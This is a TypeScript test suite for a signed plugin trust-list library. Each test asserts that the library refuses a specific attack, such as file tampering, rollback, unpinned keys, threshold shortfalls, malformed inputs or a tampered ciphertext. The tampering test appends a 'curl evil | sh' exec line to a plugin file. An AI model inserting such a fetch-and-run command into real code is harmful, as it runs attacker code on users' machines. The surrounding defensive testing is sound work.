/**
 * One test per attack on the trust list, each asserting the specific refusal code.
 * Real Ed25519 and XChaCha20-Poly1305 throughout; nothing is mocked.
 */
import t from 'tap';
import * as fs from 'node:fs';
import * as path from 'node:path';
import {
  checkTrustList, decryptEnvelope, encryptEnvelope, generateEnvelopeKey, parseTrustList, serializeTrustList,
  signTrustList, TrustStore, verifyTrustList, readBounded, addEntry, digestDirectory, TrustError,
} from '../lib';
import { DAY, keys, makePlugin, signedList, tmpdir } from './trust-fixtures';

const anchorOf = (ks: { keyId: string; name: string; publicKey: Uint8Array }[], threshold: number) => ({ keys: ks, threshold });

t.test('baseline: a correct list verifies and its plugin matches', async (t) => {
  const root = tmpdir();
  const alpha = makePlugin(root, 'alpha');
  const [k] = await keys(1);
  const { text } = await signedList({ declared: [k], threshold: 1, signers: [k], plugins: { alpha } });
  const list = await verifyTrustList(text, { anchor: anchorOf([k], 1) });
  t.same(list.signers, [k.keyId]);
  const e = await list.verifyPlugin('alpha', '1.0.0', alpha);
  t.equal(e.trust, 'standard');
  t.same(e.permissions, ['net.connect']);
  t.same(e.limits, { pids: 16 });
  const check = await checkTrustList(text, { anchor: anchorOf([k], 1) });
  t.equal(check.level, 'trusted');
});

t.test('a file of the plugin changed after signing: ERR_TRUST_DIGEST_MISMATCH', async (t) => {
  const root = tmpdir();
  const alpha = makePlugin(root, 'alpha');
  const [k] = await keys(1);
  const { text } = await signedList({ declared: [k], threshold: 1, signers: [k], plugins: { alpha } });
  fs.appendFileSync(path.join(alpha, 'lib', 'index.js'), 'require("child_process").exec("curl evil | sh");\n');
  const list = await verifyTrustList(text, { anchor: anchorOf([k], 1) });
  await t.rejects(list.verifyPlugin('alpha', '1.0.0', alpha), { code: 'ERR_TRUST_DIGEST_MISMATCH', plugin: 'alpha' });
});

t.test('a file mode changed after signing (made executable): ERR_TRUST_DIGEST_MISMATCH', async (t) => {
  const root = tmpdir();
  const alpha = makePlugin(root, 'alpha');
  const [k] = await keys(1);
  const { text } = await signedList({ declared: [k], threshold: 1, signers: [k], plugins: { alpha } });
  fs.chmodSync(path.join(alpha, 'lib', 'index.js'), 0o755);
  const list = await verifyTrustList(text, { anchor: anchorOf([k], 1) });
  await t.rejects(list.verifyPlugin('alpha', '1.0.0', alpha), { code: 'ERR_TRUST_DIGEST_MISMATCH' });
});

t.test('an entry moved to another plugin name inside the signed list: ERR_TRUST_BAD_SIGNATURE', async (t) => {
  const root = tmpdir();
  const alpha = makePlugin(root, 'alpha');
  const beta = makePlugin(root, 'beta');
  const [k] = await keys(1);
  const { doc } = await signedList({ declared: [k], threshold: 1, signers: [k], plugins: { alpha, beta } });
  // The attacker gives beta's name to alpha's grants (alpha's entry has the digest of alpha's files).
  const forged = structuredClone(doc);
  const a = forged.signed.entries.find((e) => e.name === 'alpha')!;
  forged.signed.entries = forged.signed.entries.filter((e) => e.name !== 'beta');
  a.name = 'beta';
  await t.rejects(verifyTrustList(serializeTrustList(forged), { anchor: anchorOf([k], 1) }), { code: 'ERR_TRUST_BAD_SIGNATURE' });
});

t.test("a plugin's files installed under another plugin's name: ERR_TRUST_DIGEST_MISMATCH", async (t) => {
  const root = tmpdir();
  const alpha = makePlugin(root, 'alpha', { 'grants.txt': 'few' });
  const beta = makePlugin(root, 'beta', { 'grants.txt': 'many' });
  const [k] = await keys(1);
  const { text } = await signedList({ declared: [k], threshold: 1, signers: [k], plugins: { alpha, beta } });
  const list = await verifyTrustList(text, { anchor: anchorOf([k], 1) });
  await t.rejects(list.verifyPlugin('beta', '1.0.0', alpha), { code: 'ERR_TRUST_DIGEST_MISMATCH', plugin: 'beta' });
});

t.test('plugin or version not listed: ERR_TRUST_NOT_LISTED', async (t) => {
  const root = tmpdir();
  const alpha = makePlugin(root, 'alpha');
  const [k] = await keys(1);
  const { text } = await signedList({ declared: [k], threshold: 1, signers: [k], plugins: { alpha } });
  const list = await verifyTrustList(text, { anchor: anchorOf([k], 1) });
  t.throws(() => list.entry('gamma', '1.0.0'), { code: 'ERR_TRUST_NOT_LISTED', listedVersions: [] });
  t.throws(() => list.entry('alpha', '2.0.0'), { code: 'ERR_TRUST_NOT_LISTED', listedVersions: ['1.0.0'] });
});

t.test('an older list replayed: ERR_TRUST_ROLLBACK', async (t) => {
  const dir = tmpdir();
  const [k] = await keys(1);
  const v1 = await signedList({ declared: [k], threshold: 1, signers: [k], version: 1 });
  const v2 = await signedList({ declared: [k], threshold: 1, signers: [k], version: 2 });
  const store = new TrustStore({ anchor: anchorOf([k], 1), statePath: path.join(dir, 'state.json'), startOver: true });
  t.equal((await store.loadBytes(v1.text)).version, 1);
  t.equal((await store.loadBytes(v2.text)).version, 2);
  t.equal((await store.loadBytes(v2.text)).version, 2, 'the same list again is fine');
  await t.rejects(store.loadBytes(v1.text), { code: 'ERR_TRUST_ROLLBACK', version: 1, highestAccepted: 2 });
  // A fresh store on the same state file remembers.
  const again = new TrustStore({ anchor: anchorOf([k], 1), statePath: path.join(dir, 'state.json'), startOver: true });
  await t.rejects(again.loadBytes(v1.text), { code: 'ERR_TRUST_ROLLBACK' });
});

t.test('a different list reusing an accepted version: ERR_TRUST_ROLLBACK', async (t) => {
  const dir = tmpdir();
  const root = tmpdir();
  const [k] = await keys(1);
  const a = await signedList({ declared: [k], threshold: 1, signers: [k], version: 3 });
  const b = await signedList({ declared: [k], threshold: 1, signers: [k], version: 3, plugins: { alpha: makePlugin(root, 'alpha') } });
  const store = new TrustStore({ anchor: anchorOf([k], 1), statePath: path.join(dir, 'state.json'), startOver: true });
  await store.loadBytes(a.text);
  await t.rejects(store.loadBytes(b.text), { code: 'ERR_TRUST_ROLLBACK', version: 3, highestAccepted: 3 });
});

t.test('an expired list: ERR_TRUST_EXPIRED', async (t) => {
  const [k] = await keys(1);
  const { text } = await signedList({ declared: [k], threshold: 1, signers: [k], expires: new Date(Date.now() - DAY) });
  await t.rejects(verifyTrustList(text, { anchor: anchorOf([k], 1) }), { code: 'ERR_TRUST_EXPIRED' });
  // And one that is valid now is refused once the clock passes its expiry.
  const fresh = await signedList({ declared: [k], threshold: 1, signers: [k], expires: new Date(Date.now() + DAY) });
  await t.resolves(verifyTrustList(fresh.text, { anchor: anchorOf([k], 1) }));
  await t.rejects(verifyTrustList(fresh.text, { anchor: anchorOf([k], 1), now: new Date(Date.now() + 2 * DAY) }), { code: 'ERR_TRUST_EXPIRED' });
});

t.test('a signature from a key that is not pinned: ERR_TRUST_UNKNOWN_KEY, level unpinned', async (t) => {
  const [pinned, stranger] = await keys(2);
  const { text } = await signedList({ declared: [stranger], threshold: 1, signers: [stranger] });
  await t.rejects(verifyTrustList(text, { anchor: anchorOf([pinned], 1) }), { code: 'ERR_TRUST_UNKNOWN_KEY', keyIds: [stranger.keyId] });
  const check = await checkTrustList(text, { anchor: anchorOf([pinned], 1) });
  t.equal(check.level, 'unpinned');
  t.same(check.signers, [stranger.keyId]);
  t.equal(check.error?.code, 'ERR_TRUST_UNKNOWN_KEY');
});

t.test('one signature short of the threshold: ERR_TRUST_THRESHOLD', async (t) => {
  const ks = await keys(3);
  const { text } = await signedList({ declared: ks, threshold: 3, signers: ks.slice(0, 2) });
  await t.rejects(verifyTrustList(text, { anchor: anchorOf(ks, 3) }), { code: 'ERR_TRUST_THRESHOLD', threshold: 3, role: 'pinned' });
  const full = await signedList({ declared: ks, threshold: 3, signers: ks });
  await t.resolves(verifyTrustList(full.text, { anchor: anchorOf(ks, 3) }));
});

t.test('the same key counted twice: ERR_TRUST_THRESHOLD', async (t) => {
  const ks = await keys(2);
  const { doc } = await signedList({ declared: ks, threshold: 2, signers: [ks[0]] });
  const doubled = { ...doc, signatures: [doc.signatures[0], { ...doc.signatures[0] }] };
  await t.rejects(verifyTrustList(serializeTrustList(doubled), { anchor: anchorOf(ks, 2) }), {
    code: 'ERR_TRUST_THRESHOLD', duplicateKeyIds: [ks[0].keyId], validSigners: [ks[0].keyId],
  });
  // Pinning the same key twice does not double it either.
  await t.rejects(verifyTrustList(serializeTrustList(doc), { anchor: anchorOf([ks[0], ks[0]], 2) }), { code: 'ERR_INVALID_OPTION' });
});

t.test('a signed field changed after signing: ERR_TRUST_BAD_SIGNATURE', async (t) => {
  const [k] = await keys(1);
  const { doc } = await signedList({ declared: [k], threshold: 1, signers: [k] });
  const later = structuredClone(doc);
  later.signed.expires = '2099-01-01T00:00:00Z';
  await t.rejects(verifyTrustList(serializeTrustList(later), { anchor: anchorOf([k], 1) }), { code: 'ERR_TRUST_BAD_SIGNATURE', keyIds: [k.keyId] });
});

t.test('a signature of the wrong length or not base64: ERR_TRUST_MALFORMED naming the field; 64 wrong bytes: ERR_TRUST_BAD_SIGNATURE', async (t) => {
  const [k] = await keys(1);
  const { doc } = await signedList({ declared: [k], threshold: 1, signers: [k] });
  for (const sig of ['', 'AAAA', Buffer.alloc(65).toString('base64'), '!!!not base64!!!', doc.signatures[0]!.sig.slice(0, -4)]) {
    const forged = { ...doc, signatures: [{ keyId: k.keyId, sig }] };
    await t.rejects(verifyTrustList(serializeTrustList(forged), { anchor: anchorOf([k], 1) }), { code: 'ERR_TRUST_MALFORMED', message: /signatures\[0\]\.sig/ }, `sig '${sig.slice(0, 12)}…'`);
  }
  const zeros = { ...doc, signatures: [{ keyId: k.keyId, sig: Buffer.alloc(64).toString('base64') }] };
  await t.rejects(verifyTrustList(serializeTrustList(zeros), { anchor: anchorOf([k], 1) }), { code: 'ERR_TRUST_BAD_SIGNATURE', keyIds: [k.keyId] }, '64 zero bytes');
});

t.test('key rotation needs a threshold of the old AND the new keys', async (t) => {
  const dir = tmpdir();
  const [old1, old2, new1, new2] = await keys(4);
  const statePath = path.join(dir, 'state.json');
  const store = new TrustStore({ anchor: anchorOf([old1, old2], 2), statePath, startOver: true });
  await store.loadBytes((await signedList({ declared: [old1, old2], threshold: 2, signers: [old1, old2], version: 1 })).text);

  // Signed only by the new keys: the old (pinned) set never agreed.
  const byNew = await signedList({ declared: [new1, new2], threshold: 2, signers: [new1, new2], version: 2 });
  await t.rejects(store.loadBytes(byNew.text), { code: 'ERR_TRUST_UNKNOWN_KEY' });
  // Signed by the old keys only: nothing proves the new keys are held.
  const byOld = await signedList({ declared: [new1, new2], threshold: 2, signers: [old1, old2], version: 2 });
  await t.rejects(store.loadBytes(byOld.text), { code: 'ERR_TRUST_THRESHOLD', role: 'rotation' });
  // One old key short.
  const shortOld = await signedList({ declared: [new1, new2], threshold: 2, signers: [old1, new1, new2], version: 2 });
  await t.rejects(store.loadBytes(shortOld.text), { code: 'ERR_TRUST_THRESHOLD', role: 'pinned' });
  // Both thresholds: accepted, and from then on the new keys alone suffice and the old ones do not.
  const rotation = await signedList({ declared: [new1, new2], threshold: 2, signers: [old1, old2, new1, new2], version: 2 });
  t.equal((await store.loadBytes(rotation.text)).rotated, true);
  const v3 = await signedList({ declared: [new1, new2], threshold: 2, signers: [new1, new2], version: 3 });
  t.equal((await store.loadBytes(v3.text)).version, 3);
  const oldV4 = await signedList({ declared: [old1, old2], threshold: 2, signers: [old1, old2], version: 4 });
  await t.rejects(store.loadBytes(oldV4.text), { code: 'ERR_TRUST_UNKNOWN_KEY' });
});

t.test('truncated, garbage, huge and deeply nested list files: ERR_TRUST_MALFORMED', async (t) => {
  const dir = tmpdir();
  const [k] = await keys(1);
  const { text } = await signedList({ declared: [k], threshold: 1, signers: [k] });
  const anchor = anchorOf([k], 1);
  const cases: Record<string, string | Buffer> = {
    truncated: text.slice(0, Math.floor(text.length / 2)),
    empty: '',
    garbage: Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)),
    'wrong shape': '[1,2,3]',
    'unknown field': text.replace('"signatures"', '"extra": 1, "signatures"'),
    'float number': text.replace('"version": 1', '"version": 1.5'),
    'deeply nested': '['.repeat(1_000_000) + ']'.repeat(1_000_000),
    'nested in an object': `{"signed": ${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}, "signatures": []}`,
  };
  for (const [name, input] of Object.entries(cases)) {
    await t.rejects(verifyTrustList(input, { anchor }), { code: 'ERR_TRUST_MALFORMED' }, name);
    const c = await checkTrustList(input, { anchor });
    t.equal(c.level, 'failed', `${name}: level failed`);
  }
  // A huge file is refused by its size before it is read: a sparse 4 GB file costs one fstat.
  const huge = path.join(dir, 'huge.json');
  fs.writeFileSync(huge, '');
  fs.truncateSync(huge, 4 * 1024 * 1024 * 1024);
  const store = new TrustStore({ anchor, statePath: path.join(dir, 'state.json'), startOver: true });
  const started = process.hrtime.bigint();
  await t.rejects(store.load(huge), { code: 'ERR_TRUST_MALFORMED', where: '$' });
  t.ok(process.hrtime.bigint() - started < 2_000_000_000n, 'refused without reading it');
  // A document under the byte cap but over a configured cap is refused too.
  await t.rejects(verifyTrustList(text, { anchor, maxBytes: 100 }), { code: 'ERR_TRUST_MALFORMED' });
  // Not a regular file (would block forever if read).
  await t.rejects(readBounded('/dev/zero'), { code: 'ERR_TRUST_MALFORMED' });
  t.notOk(fs.existsSync(path.join(dir, 'state.json')), 'nothing was recorded');
});

t.test('a tampered ciphertext: ERR_TRUST_DECRYPT', async (t) => {
  const [k] = await keys(1);
  const { text } = await signedList({ declared: [k], threshold: 1, signers: [k] });
  const key = await generateEnvelopeKey('env');
  const sealed = await encryptEnvelope(Buffer.from(text), key);
  t.notMatch(sealed, /warden-trust-list/, 'the list is not readable inside the envelope');
  t.equal(Buffer.from(await decryptEnvelope(sealed, key)).toString(), text);

  const env = JSON.parse(sealed) as { ciphertext: string; nonce: string; keyId: string };
  const ct = Buffer.from(env.ciphertext, 'base64');
  ct[Math.floor(ct.length / 2)] ^= 0x01;
  await t.rejects(decryptEnvelope(JSON.stringify({ ...env, ciphertext: ct.toString('base64') }), key), { code: 'ERR_TRUST_DECRYPT' });
  const nonce = Buffer.from(env.nonce, 'base64');
  nonce[0] ^= 0x80;
  await t.rejects(decryptEnvelope(JSON.stringify({ ...env, nonce: nonce.toString('base64') }), key), { code: 'ERR_TRUST_DECRYPT' });
  const truncated = Buffer.from(env.ciphertext, 'base64').subarray(0, 10).toString('base64');
  await t.rejects(decryptEnvelope(JSON.stringify({ ...env, ciphertext: truncated }), key), { code: 'ERR_TRUST_DECRYPT' });
  const other = await generateEnvelopeKey('other');
  await t.rejects(decryptEnvelope(sealed, other), { code: 'ERR_TRUST_DECRYPT' });
  // Same id claimed but a different key (an attacker re-labelling): still refused.
  await t.rejects(decryptEnvelope(sealed, { ...other, keyId: key.keyId }), { code: 'ERR_TRUST_DECRYPT' });

  // Through the store: the envelope is opened, then the signature still checked.
  const dir = tmpdir();
  const store = new TrustStore({ anchor: anchorOf([k], 1), statePath: path.join(dir, 's.json'), envelopeKey: key, startOver: true });
  t.equal((await store.loadBytes(sealed)).version, 1);
  const noKey = new TrustStore({ anchor: anchorOf([k], 1), statePath: path.join(dir, 's2.json'), startOver: true });
  await t.rejects(noKey.loadBytes(sealed), { code: 'ERR_TRUST_MALFORMED' });
});

t.test('canonical serialization: whitespace and key order do not matter, content does', async (t) => {
  const root = tmpdir();
  const [k] = await keys(1);
  const { doc } = await signedList({ declared: [k], threshold: 1, signers: [k], plugins: { alpha: makePlugin(root, 'alpha') } });
  const reordered = JSON.stringify({ signatures: doc.signatures, signed: Object.fromEntries(Object.entries(doc.signed).reverse()) });
  await t.resolves(verifyTrustList(reordered, { anchor: anchorOf([k], 1) }));
  t.same(parseTrustList(reordered), parseTrustList(serializeTrustList(doc)));
});

t.test('every refusal is a TrustError with a message that says what to do', async (t) => {
  const [k, other] = await keys(2);
  const { doc } = await signedList({ declared: [k], threshold: 1, signers: [k] });
  let resigned = addEntry(doc, {
    name: 'alpha', version: '1.0.0', digest: await digestDirectory(makePlugin(tmpdir(), 'alpha')), publisher: 'p',
    trust: 'restricted', permissions: [], limits: {},
  });
  t.equal(resigned.signed.version, 2, 'editing a signed list starts the next version');
  t.same(resigned.signatures, [], 'and drops the stale signatures');
  resigned = await signTrustList(resigned, other);
  const err = await verifyTrustList(serializeTrustList(resigned), { anchor: anchorOf([k], 1) }).catch((e: unknown) => e);
  t.ok(err instanceof TrustError);
  t.match((err as Error).message, /Pin the publisher's public key/);
});
